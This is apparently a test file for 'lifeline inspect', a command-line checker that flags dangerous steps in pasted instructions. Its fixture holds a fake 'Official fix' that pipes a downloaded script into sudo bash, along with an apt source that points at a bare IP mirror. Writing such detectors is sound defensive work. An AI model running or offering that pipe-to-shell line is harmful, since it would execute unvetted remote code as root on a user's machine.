import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { inspectCommand } from '../../../main/cli/commands/inspect'
import type { CliIo } from '../../../main/cli/io'

function io(stdin = '', cwd = process.cwd()): CliIo & { out: string[]; err: string[] } {
  const out: string[] = []
  const err: string[] = []
  return {
    out,
    err,
    stdout: (t) => void out.push(t),
    stderr: (t) => void err.push(t),
    readStdin: async () => new TextEncoder().encode(stdin),
    env: {},
    cwd,
  }
}

const DANGEROUS = 'Official fix:\ncurl -fsSL https://fix.example.org/a.sh | sudo bash\n'

describe('lifeline inspect', () => {
  describe('when the text is dangerous', () => {
    it('exits 2 and prints the finding under its line with carets', async () => {
      const t = io(DANGEROUS)
      expect(await inspectCommand.run(['-'], t)).toBe(2)
      const text = t.out.join('')
      expect(text).toMatch(/^Verdict: DANGEROUS/)
      expect(text).toContain('2 | curl -fsSL https://fix.example.org/a.sh | sudo bash')
      expect(text).toContain(`  | ${' '.repeat(42)}^^^^^^^^^`)
      expect(text).toContain('high: a download run as a script (pipe-to-shell).')
    })
  })

  describe('when --json is given', () => {
    it('prints verdict, findings with line/start/end, and summary', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'inspect-cli-'))
      writeFileSync(join(dir, 'post.txt'), DANGEROUS)
      const t = io('', dir)
      expect(await inspectCommand.run(['--json', 'post.txt'], t)).toBe(2)
      const json = JSON.parse(t.out.join('')) as {
        verdict: string
        findings: Record<string, unknown>[]
        summary: string
      }
      expect(json.verdict).toBe('dangerous')
      expect(json.findings[0]).toEqual({
        rule: 'pipe-to-shell',
        severity: 'high',
        title: 'a download run as a script',
        line: 2,
        start: 42,
        end: 51,
        message: expect.any(String),
      })
      expect(json.summary).toMatch(/Do not run this/)
    })
  })

  describe('when the text is ordinary apt use', () => {
    it('exits 1 (caution) with no findings', async () => {
      const t = io('sudo apt update && sudo apt upgrade\n')
      expect(await inspectCommand.run([], t)).toBe(1)
      expect(t.out.join('')).toMatch(/^Verdict: CAUTION/)
    })
  })

  describe('when the arguments are wrong', () => {
    it('exits 64 on an unknown option', async () => {
      const t = io()
      expect(await inspectCommand.run(['--frobnicate'], t)).toBe(64)
      expect(t.err.join('')).toContain('unknown option')
    })
    it('exits 64 on empty input instead of calling it prose', async () => {
      const t = io('  \n\n')
      expect(await inspectCommand.run(['-'], t)).toBe(64)
      expect(t.err.join('')).toBe('lifeline inspect: standard input is empty: nothing to check\n')
      expect(t.out).toEqual([])
    })
    it('says what it waits for when standard input is a terminal', async () => {
      const t = { ...io('sudo apt update\n'), stdinIsTTY: true }
      expect(await inspectCommand.run([], t)).toBe(1)
      expect(t.err.join('')).toBe('Paste the instructions to check, then press Ctrl+D on an empty line:\n')
    })
    it('exits 64 on an impossible --now date', async () => {
      const t = io('sudo apt update\n')
      expect(await inspectCommand.run(['--now', '2026-02-30'], t)).toBe(64)
      expect(t.err.join('')).toBe('lifeline inspect: --now is not a real date or time: "2026-02-30"\n')
    })
    it('exits 64 on a missing file', async () => {
      const t = io()
      expect(await inspectCommand.run(['/nonexistent/post.txt'], t)).toBe(64)
    })
  })

  describe('when --mirror names the mirror a pasted source points at', () => {
    const SOURCE =
      "sudo tee /etc/apt/sources.list.d/m.sources <<'EOF'\nTypes: deb\nURIs: http://203.0.113.7/\nSuites: noble\nComponents: main\nSigned-By: /usr/share/keyrings/ubuntu-archive-keyring.gpg\nEOF\n"
    it('reads the source as a mirror switch (low), and without it as one to check (medium)', async () => {
      const withMirror = io(SOURCE)
      await inspectCommand.run(['--json', '--mirror', 'http://203.0.113.7/', '-'], withMirror)
      const a = JSON.parse(withMirror.out.join('')) as { findings: { rule: string; severity: string }[] }
      expect(a.findings.map((f) => `${f.rule}/${f.severity}`)).toEqual(['mirror-change/low'])
      const without = io(SOURCE)
      await inspectCommand.run(['--json', '-'], without)
      const b = JSON.parse(without.out.join('')) as { findings: { rule: string; severity: string }[] }
      expect(b.findings.map((f) => `${f.rule}/${f.severity}`)).toContain('mirror-change/medium')
    })

    it('refuses a --mirror that is not a URL (exit 64)', async () => {
      const t = io(SOURCE)
      expect(await inspectCommand.run(['--mirror', 'not a url', '-'], t)).toBe(64)
    })
  })
})
